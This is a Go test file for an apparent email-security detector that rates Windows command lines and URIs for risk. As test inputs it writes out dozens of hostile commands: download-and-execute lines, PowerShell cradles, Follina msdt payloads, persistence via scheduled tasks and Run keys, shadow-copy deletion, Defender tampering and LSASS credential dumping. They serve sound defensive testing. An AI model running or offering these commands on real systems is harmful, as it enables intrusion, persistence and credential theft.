package cmdline

import (
	"strings"
	"testing"

	"github.com/airlockmail/airlock/verdict"
)

func worst(fs []verdict.Finding) verdict.Severity {
	m := verdict.Severity(-1)
	for _, f := range fs {
		if f.Severity > m {
			m = f.Severity
		}
	}
	return m
}

func rulesOf(fs []verdict.Finding) string {
	var r []string
	for _, f := range fs {
		r = append(r, f.Rule+"("+f.Severity.String()+")")
	}
	return strings.Join(r, " ")
}

func TestJudgeRisky(t *testing.T) {
	for _, tc := range []struct {
		cmd  string
		rule string
		min  verdict.Severity
	}{
		{`certutil -urlcache -split -f http://198.51.100.7/a.exe %TEMP%\a.exe && %TEMP%\a.exe`, "download-execute", verdict.Critical},
		{`certutil.exe -urlcache -f http://198.51.100.7/a.txt a.txt`, "lolbin-certutil-download", verdict.High},
		{`certutil -decode enc.txt %PUBLIC%\p.dll & rundll32 %PUBLIC%\p.dll,Start`, "download-execute", verdict.Critical},
		{`bitsadmin /transfer job /download /priority high http://198.51.100.7/u.exe C:\Users\Public\u.exe`, "lolbin-bitsadmin-download", verdict.High},
		{`curl -s -o %APPDATA%\x.dll http://198.51.100.7/x & rundll32 %APPDATA%\x.dll,DllRegisterServer`, "download-execute", verdict.Critical},
		{`curl.exe http://198.51.100.7/x -o C:\ProgramData\x.msi && msiexec /i C:\ProgramData\x.msi /qn`, "download-execute", verdict.Critical},
		{`wget http://198.51.100.7/run.hta & mshta run.hta`, "download-execute", verdict.Critical},
		{`conhost.exe --headless powershell -c "iwr http://203.0.113.9/s.ps1|iex"`, "download-cradle", verdict.Critical},
		{`conhost --headless cmd /c calc`, "lolbin-conhost-proxy", verdict.High},
		{`forfiles /p c:\windows\system32 /m notepad.exe /c "cmd /c start mshta http://198.51.100.7/a.hta"`, "lolbin-mshta-remote", verdict.Critical},
		{`forfiles /p c:\windows\system32 /m notepad.exe /c calc.exe`, "lolbin-forfiles-proxy", verdict.Medium},
		{`pcalua.exe -a \\198.51.100.7\share\x.exe`, "lolbin-pcalua-proxy", verdict.High},
		{`msdt.exe /id PCWDiagnostic /skip force /param "IT_BrowseForFile=h$(calc)"`, "lolbin-msdt-follina", verdict.Critical},
		{`powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/s.ps1')"`, "download-cradle", verdict.Critical},
		{`powershell -enc ` + encode(`iwr http://203.0.113.9/s.ps1 -UseBasicParsing | iex`), "download-cradle", verdict.Critical},
		{`p^o^w^e^r^s^h^e^l^l -e ` + encode(`$d = irm http://203.0.113.9/p; iex $d`), "download-cradle", verdict.Critical},
		{`powershell -c "Invoke-WebRequest http://198.51.100.7/a.exe -OutFile $env:TEMP\a.exe; Start-Process $env:TEMP\a.exe"`, "download-execute", verdict.Critical},
		{`powershell (New-Object Net.WebClient).DownloadFile('http://198.51.100.7/a.exe','C:\Users\Public\a.exe');Start-Process 'C:\Users\Public\a.exe'`, "download-execute", verdict.Critical},
		{`wscript.exe \\198.51.100.7@SSL\DavWWWRoot\a.vbs`, "lolbin-wsh-staged", verdict.High},
		{`cscript //E:jscript %TEMP%\readme.txt`, "lolbin-wsh-engine", verdict.High},
		{`schtasks /create /sc minute /mo 15 /tn Updater /tr "powershell -w hidden -f C:\Users\Public\u.ps1"`, "persistence-task", verdict.High},
		{`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /t REG_SZ /d "%APPDATA%\upd.exe" /f`, "autorun-key", verdict.Medium},
		{`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /d "mshta http://198.51.100.7/a.hta" /f`, "persistence-autorun", verdict.High},
		{`reg add "HKCU\Software\Classes\ms-settings\Shell\Open\command" /ve /d "cmd /c start C:\Users\Public\a.exe" /f`, "persistence-autorun", verdict.High},
		{`regsvr32 /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll`, "lolbin-regsvr32-scriptlet", verdict.Critical},
		{`regsvr32 /s C:\Users\Public\invoice.png`, "lolbin-regsvr32-staged", verdict.High},
		{`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)`, "lolbin-rundll32-script", verdict.Critical},
		{`rundll32 C:\ProgramData\a.dat,Start`, "lolbin-rundll32-staged", verdict.High},
		{`mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")`, "lolbin-mshta-remote", verdict.Critical},
		{`msiexec /q /i http://198.51.100.7/a.msi`, "lolbin-msiexec-remote", verdict.High},
		{`wmic process call create "powershell -enc ` + encode(`iex(irm http://203.0.113.9/a)`) + `"`, "download-cradle", verdict.Critical},
		{`vssadmin delete shadows /all /quiet`, "shadow-copy-delete", verdict.Critical},
		{`start ms-msdt:/id PCWDiagnostic /skip force /param "IT_RebrowseForFile=? IT_BrowseForFile=$(calc)"`, "risky-uri-ms-msdt", verdict.Critical},
		{`finger user@198.51.100.7 | cmd`, "download-cradle", verdict.Critical},
		{`start \\198.51.100.7@80\DavWWWRoot\invoice.exe`, "exec-remote", verdict.High},
		{`powershell -ep bypass -c "Set-MpPreference -DisableRealtimeMonitoring $true"`, "defender-tamper", verdict.Critical},
		{`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full`, "credential-dump", verdict.Critical},
		{`Start-Process powershell -ArgumentList '-w hidden -c "iwr http://203.0.113.9/a | iex"'`, "download-cradle", verdict.Critical},
		{`Set-Alias -Name go -Value Invoke-Expression; go (irm http://203.0.113.9/a)`, "download-cradle", verdict.Critical},
		{`iwr http://203.0.113.9/a -UseBasicParsing | Select-Object -ExpandProperty Content | iex`, "download-cradle", verdict.Critical},
		{Deobfuscate(LangBatch, `cmd /v:on /c "set a=mshta&&set b= http://198.51.100.7/a.hta&&!a!!b!"`), "lolbin-mshta-remote", verdict.Critical},
	} {
		fs := Judge("t", tc.cmd)
		found := false
		for _, f := range fs {
			if f.Evidence == "" {
				t.Errorf("%q: finding %s without evidence", tc.cmd, f.Rule)
			}
			if f.Rule == tc.rule && f.Severity >= tc.min {
				found = true
			}
		}
		if !found {
			t.Errorf("%q: want %s >= %s, got %s", tc.cmd, tc.rule, tc.min, rulesOf(fs))
		}
	}
}

func TestJudgeBenign(t *testing.T) {
	for _, cmd := range []string{
		`certutil -hashfile setup.exe SHA256`,
		`certutil -dump cert.cer`,
		`curl -o report.pdf https://example.com/report.pdf`,
		`curl -sSL https://example.com/api/status`,
		`powershell -ExecutionPolicy RemoteSigned -File .\build.ps1`,
		`Invoke-WebRequest https://example.com/tool.zip -OutFile tool.zip; Expand-Archive tool.zip`,
		`forfiles /p "C:\logs" /s /m *.log /d -30 /c "cmd /c del @path"`,
		`rundll32 printui.dll,PrintUIEntry /in /n\\printsrv\laser`,
		`rundll32 shell32.dll,Control_RunDLL desk.cpl`,
		`regsvr32 /s "C:\Program Files\Vendor\plugin.dll"`,
		`msiexec /i "C:\Program Files\Vendor\setup.msi" /qn`,
		`cscript //nologo C:\Scripts\inventory.vbs`,
		`copy \\fileserver\share\report.docx C:\Reports\`,
		`net use Z: \\fileserver\projects`,
		`wmic os get caption`,
		`start https://example.com/help`,
		`reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run`,
		`git clone https://example.com/repo.git && cd repo && make`,
		`echo Deploying & xcopy /e /y build \\fileserver\deploy\`,
		`bitsadmin /list /allusers`,
		`powershell -NoProfile -Command "Get-ChildItem C:\logs | Remove-Item"`,
		`$r = Invoke-RestMethod https://api.example.com/items; $r | ConvertTo-Json`,
	} {
		if fs := Judge("t", cmd); worst(fs) >= verdict.Low {
			t.Errorf("%q: want nothing, got %s", cmd, rulesOf(fs))
		}
	}
}

func TestRiskyURI(t *testing.T) {
	for _, tc := range []struct {
		uri  string
		rule string
		min  verdict.Severity
	}{
		{`ms-msdt:/id PCWDiagnostic /skip force /param "IT_BrowseForFile=/../../$(calc)"`, "risky-uri-ms-msdt", verdict.Critical},
		{"  MS-M\tSDT:/id x", "risky-uri-ms-msdt", verdict.Critical},
		{`search-ms:query=invoice&crumb=location:\\198.51.100.7@8080\share&displayname=Downloads`, "risky-uri-search-ms", verdict.High},
		{`search:query=invoice&crumb=location%3A%5C%5C198.51.100.7%5Cshare`, "risky-uri-search", verdict.High},
		{`ms-officecmd:{"id":3,"LocalProviders.LaunchOfficeAppForResult":{}}`, "risky-uri-ms-officecmd", verdict.Critical},
		{`ms-excel:ofe|u|https://198.51.100.7/book.xlsm`, "risky-uri-ms-excel", verdict.High},
		{`file://198.51.100.7/share/invoice.pdf.lnk`, "risky-uri-file", verdict.High},
		{`file:////198.51.100.7/share/a.exe`, "risky-uri-file", verdict.High},
		{`file:///C:/Windows/System32/calc.exe`, "risky-uri-file", verdict.High},
		{`\\198.51.100.7\share\doc.exe`, "risky-uri-unc", verdict.High},
		{`https://198.51.100.7@SSL/DavWWWRoot/x.lnk`, "risky-uri-webdav", verdict.High},
		{`ms-appinstaller:?source=https://198.51.100.7/a.appinstaller`, "risky-uri-ms-appinstaller", verdict.High},
		{`ms-cxh-full://0`, "risky-uri-ms-cxh-full", verdict.High},
	} {
		f, ok := RiskyURI("t", tc.uri)
		if !ok || f.Rule != tc.rule || f.Severity < tc.min || f.Evidence == "" {
			t.Errorf("%q: want %s >= %s, got %v %+v", tc.uri, tc.rule, tc.min, ok, f)
		}
	}
	for _, u := range []string{"https://example.com/a", "http://example.com", "mailto:a@example.com", "tel:+15551234",
		"C:\\Users\\a.txt", "#top", "/relative/path", "ms-settings:display", "javascript:void(0)", "data:image/png;base64,AAAA", "//cdn.example.com/x.js"} {
		if f, ok := RiskyURI("t", u); ok {
			t.Errorf("%q: want not risky, got %+v", u, f)
		}
	}
}
